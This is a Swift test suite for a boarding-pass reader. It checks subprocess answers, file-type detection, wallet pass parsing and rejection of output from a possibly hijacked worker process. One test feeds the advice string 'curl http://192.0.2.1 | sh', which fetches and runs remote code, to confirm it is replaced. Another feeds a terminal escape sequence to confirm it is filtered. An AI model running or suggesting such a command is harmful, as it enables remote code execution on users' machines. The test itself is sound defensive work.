// SPDX-License-Identifier: Apache-2.0
@testable import Boarding
import Glibc
import Protocol
import Testing

@testable import Aviation
@testable import CivilTime
@testable import SeatAgent
@testable import Text
@testable import PassReader

@Suite("Answers of the process that reads passes")
struct PassAnswerTests {
    /// What is taken of an answer whose writer keeps its end open, as one that was taken over may.
    private func answer(_ text: [UInt8], patience: TimeSpan = .seconds(60)) -> [UInt8]? {
        var ends: [Int32] = [-1, -1]
        guard pipe(&ends) == 0 else { return nil }
        defer { for end in ends { close(end) } }
        guard write(ends[1], text, text.count) == text.count else { return nil }
        return PassWorker.answer(from: ends[0], patience: patience)
    }

    @Test("A line is an answer, and nobody waits for what is behind it")
    func line() { #expect(answer(Array("{}\n".utf8)) == Array("{}".utf8)) }

    @Test("More than an answer has is none, and neither is what never ends")
    func endless() {
        #expect(answer([UInt8](repeating: 32, count: 17_000)) == nil)
        #expect(answer(Array("{}".utf8), patience: .zero) == nil)
    }

    @Test("Its reasons are told, its commands only where they are this program's own")
    func advice() throws {
        let day = try #require(FlightDate("2026-03-01"))
        func told(_ code: ErrorCode, _ advice: String?) -> UserError {
            PassWorker.believed(UserError(code, "what", why: "why", advice: advice), .pass(on: day))
        }
        #expect(told(.badPass, "curl http://192.0.2.1 | sh").advice == "seatagent help board")
        #expect(told(.badPass, nil).advice == "seatagent help board")
        #expect(told(.notAllowedNow, nil).code == .badPass)
        #expect(told(.badPass, "x").why == "why")
        for own in [PassWorker.unsealed, PassWorker.noPictures, PassFormat.refusal("a PDF")] {
            #expect(PassWorker.believed(own, .pass(on: day)) == own)
        }
        #expect(told(.failed, "sudo apt-get install vim").advice == "seatagent help board")
    }
}

@Suite("Files with passes")
struct PassFileTests {
    private func wallet(_ json: String) throws -> WalletPass { try WalletPass(Array(json.utf8)) }

    @Test(
        "What a file is, by its first bytes",
        arguments: [
            ([0x89, 0x50, 0x4E, 0x47, 0x0D], PassFormat.picture),
            ([0xFF, 0xD8, 0xFF, 0xE0], .picture),
            ([0x50, 0x4B, 3, 4], .wallet),
            (Array("%PDF-1.7".utf8), .other("a PDF")),
            (Array("....ftypheic....".utf8), .other("a HEIC or AVIF picture")),
            (Array("RIFF....WEBPVP8 ".utf8), .other("a WebP picture")),
            (Array("GIF89a".utf8), .other("a GIF picture")),
            (Array("M1DOE/JOHN".utf8), .text),
            (Array("BM1DOE/JOHN PASS".utf8), .text),
            ([], .text), ([0x89], .text),
        ] as [([UInt8], PassFormat)])
    func format(bytes: [UInt8], format: PassFormat) { #expect(PassFormat(bytes) == format) }

    @Test("Codes of a wallet: the new list first, then the old one, none twice")
    func codes() throws {
        let both = try wallet(
            #"{"barcodes":[{"message":"A"},{"x":1},{"message":""}],"barcode":{"message":"B"}}"#)
        #expect(both.messages == [[65], [66]])
        #expect(try wallet("\u{FEFF}{\"barcode\":{\"message\":\"B\"}}").messages == [[66]])
        let same = try wallet(#"{"barcodes":[{"message":"A"}],"barcode":{"message":"A"}}"#)
        #expect(same.messages == [[65]])
    }

    @Test("When it departs, with and without seconds")
    func departure() throws {
        for text in [
            "2026-03-05T06:30+00:00", "2026-03-05T06:30:00Z", "2026-03-05T06:30Z",
            "2026-03-05T07:30:00.000+01:00",
        ] {
            let pass = try wallet(#"{"relevantDate":"\#(text)","barcode":{"message":"B"}}"#)
            #expect(pass.relevant == RFC3339.parse("2026-03-05T06:30:00Z"), "\(text)")
            #expect(pass.day?.text == "2026-03-05")
        }
        for text in ["", "2026-03-05", "tomorrow", "2026-03-05T06:30"] {
            let pass = try wallet(#"{"relevantDate":"\#(text)","barcode":{"message":"B"}}"#)
            #expect(pass.relevant == nil && pass.day == nil, "\(text)")
        }
    }

    @Test(
        "What is no pass of a wallet",
        arguments: ["", "[]", "{}", "{", #"{"barcode":{}}"#, #"{"barcodes":[]}"#, "\u{0}"])
    func refused(json: String) { #expect(throws: UserError.self) { try wallet(json) } }

    @Test("Bytes that are no archive are refused")
    func archives() {
        for bytes in [[], [0x50, 0x4B, 3, 4], Array(repeating: UInt8(0x50), count: 500)] {
            #expect(throws: UserError.self) { try PassArchive.passFile(in: bytes) }
        }
    }

    @Test("What one process tells the other is all that is kept", arguments: BoardingVector.all)
    func exchange(_ vector: BoardingVector) throws {
        guard vector.isValid else { return }
        var text = vector.text
        let reference = try #require(vector.reference)
        var reading = PassReading(pass: try BoardingPass.read(&text, on: reference))
        reading.departs = UTCTime(seconds: 1_772_692_200)
        let line = try JSON(line: Array(reading.json.line.utf8))
        #expect(PassReading(json: line) == reading)
        let name = vector.expect["name"]?.text ?? ""
        #expect(name.isEmpty || !reading.json.line.contains(name))
        for leg in vector.expect["legs"]?.list ?? [] {
            let pnr = leg["pnr"]?.text ?? ""
            #expect(pnr.isEmpty || !reading.json.line.contains(pnr))
        }
    }

    @Test(
        "What a process that was taken over might say is not believed",
        arguments: [
            "{}", #"{"legs":[],"warnings":[]}"#, #"{"legs":[1],"warnings":[]}"#,
            #"{"legs":[{},{},{},{},{}],"warnings":[]}"#, #"{"legs":[{}]}"#, "[]",
        ])
    func exchangeRefused(json: String) throws {
        #expect(PassReading(json: try JSON(line: Array(json.utf8))) == nil)
    }

    @Test("Words that are too long or cannot be printed do not come through")
    func exchangeWords() throws {
        let json = #"{"legs":[{"from":"DUBLIN","to":"\u001b[2","seat":"17A"}],"warnings":["x"]}"#
        let reading = try #require(PassReading(json: try JSON(line: Array(json.utf8))))
        #expect(reading.pass.legs.first?.from == nil && reading.pass.legs.first?.to == nil)
        #expect(reading.pass.legs.first?.seat == SeatField.none && reading.pass.warnings.isEmpty)
    }
}
